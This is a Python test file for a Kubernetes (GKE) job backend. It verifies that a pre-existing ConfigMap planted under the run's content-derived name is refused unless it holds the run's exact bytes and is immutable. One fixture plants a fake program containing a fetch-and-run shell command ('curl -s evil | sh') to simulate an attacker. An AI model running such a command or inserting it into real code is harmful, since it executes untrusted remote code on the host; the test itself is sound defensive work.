"""The programs' ConfigMap is named by its content (flows/backends/gke/jobs/program_files.py)
and created immutable; one of that name already in the namespace is used only when it holds
exactly the bytes the run ships and can never change (immutable). Another team, or anyone who
may create ConfigMaps there, could otherwise plant a program of its own under the name the
run will mount (jobset_client.py ``ship_programs``)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from flows.backends.gke.jobs.program_files import program_files_configmap
from flows.core.eval_programs import evaluate_workload
from flows.core.failures import StageFailed
from flows.core.layout import Layout
from tests.fakes.gke_backend import ListLogger, make_backend
from tests.fakes.kube_api import FakeApiServer, FakeKube
from tests.support.profiles import tutorial_profile


def _ship(tmp_path: Path, planted: dict[str, Any] | None) -> tuple[Any, dict[str, Any], FakeKube]:
    """Ship the evaluate stage's programs with ``planted`` (a change to our own object)
    created first under our name; the outcome, our object and the fake API."""
    with FakeApiServer(FakeKube()) as srv:
        backend = make_backend(srv.url, "evaluate", tmp_path, ListLogger(),
                               profile=tutorial_profile(**{"eval.batches": "2"}))
        profile = backend.profile
        workload = evaluate_workload(profile, Layout(profile), backend.runtime, "trained",
                                     Layout(profile).actor_params(2))
        assert workload.files, "the evaluate stage ships no program"
        ours = program_files_configmap(workload.files, profile.gke.namespace)
        if planted is not None:
            srv.kube.create("configmaps", "default", {**ours, **planted})
        try:
            outcome: Any = backend.jobsets.ship_programs(workload)
        except StageFailed as exc:
            outcome = exc
        return outcome, ours, srv.kube


@pytest.mark.parametrize("planted", [
    pytest.param({"data": {"evaluate.py": "import os\nos.system('curl -s evil | sh')\n"}},
                 id="other bytes"),
    pytest.param({"immutable": False}, id="our bytes, mutable"),
])
def test_a_configmap_of_our_name_not_holding_our_bytes_for_good_is_refused_naming_it(
        tmp_path: Path, planted: dict[str, Any]) -> None:
    """Planted before the stage under the name the run computes: other bytes, or ours in
    an object that may be edited afterwards. The stage fails before submitting, naming the
    ConfigMap and how to remove it, and leaves it as it was (the tool deletes nothing it
    did not create)."""
    outcome, ours, kube = _ship(tmp_path, planted)
    name = ours["metadata"]["name"]
    assert isinstance(outcome, StageFailed), "the run would mount a ConfigMap it did not write"
    assert outcome.diagnosis.code == "gke/configmap-not-ours", outcome.diagnosis
    assert name in outcome.diagnosis.summary, outcome.diagnosis
    assert f"kubectl delete configmap {name}" in outcome.diagnosis.fix, outcome.diagnosis
    left = kube.get("configmaps", "default", name)
    assert {k: left.get(k) for k in planted} == planted  # untouched


def test_a_configmap_of_our_name_with_our_bytes_immutable_is_used(tmp_path: Path) -> None:
    outcome, _, _ = _ship(tmp_path, {})  # a rerun's, or the same bytes shipped by anyone
    assert not isinstance(outcome, StageFailed), outcome
    outcome, _, _ = _ship(tmp_path, None)
    assert not isinstance(outcome, StageFailed), outcome
